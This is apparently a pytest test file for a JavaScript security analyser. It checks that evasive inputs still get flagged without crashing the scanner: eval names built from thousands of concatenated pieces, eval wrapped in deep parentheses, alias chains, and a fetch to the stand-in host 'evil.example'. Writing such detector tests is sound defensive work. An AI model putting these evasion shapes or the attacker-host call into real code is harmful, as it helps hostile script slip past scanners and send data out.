"""Hostile shapes of input neither crash the analyser nor hide from it."""

from __future__ import annotations

import pytest

from superapp.analysis import DEFAULT_LIMITS
from tests.analysis._helpers import rule_ids, scan_js

CASES = {
    "eval-name-concatenated-from-5000-pieces": (
        "window[" + "'e'+" + "''+" * 5000 + "'val'](x)",
        "SA102",
    ),
    "eval-in-3000-parentheses": ("(" * 3000 + "eval" + ")" * 3000 + "(x)", "SA101"),
    "timer-string-of-20000-terms": ("setTimeout(" + "x+" * 20000 + "'a')", "SA106"),
    "url-prefix-before-5000-terms": (
        "fetch('https://evil.example/'+" + "x+" * 5000 + "y)",
        "SA501",
    ),
    "alias-chain-of-200-variables": (
        "var a0 = eval;" + "".join(f"var a{i + 1} = a{i};" for i in range(200)) + "a200(x)",
        "SA102",
    ),
}


@pytest.mark.parametrize("case", list(CASES), ids=list(CASES))
def test_deeply_nested_or_long_code_is_analysed_without_crashing(case: str) -> None:
    code, rule = CASES[case]
    assert rule in rule_ids(scan_js(code))


def test_deep_array_nesting_does_not_crash() -> None:
    assert scan_js("[" * 20000 + "]" * 20000).blocking == ()


def test_a_flood_of_findings_is_capped_per_rule_but_still_blocks() -> None:
    report = scan_js("eval(x);\n" * 5000)
    assert len(report.blocking) == DEFAULT_LIMITS.max_findings_per_rule_per_file


def test_alias_cycle_terminates() -> None:
    assert scan_js("var a = b; var b = a; a(x); b = eval; a(y)").findings is not None


def test_non_utf8_source_is_still_analysed() -> None:
    from superapp.analysis import scan_files

    report = scan_files({"a.js": "var s = 'caf\xe9'; eval(x)".encode("latin-1")})
    assert rule_ids(report) == {"SA101"}
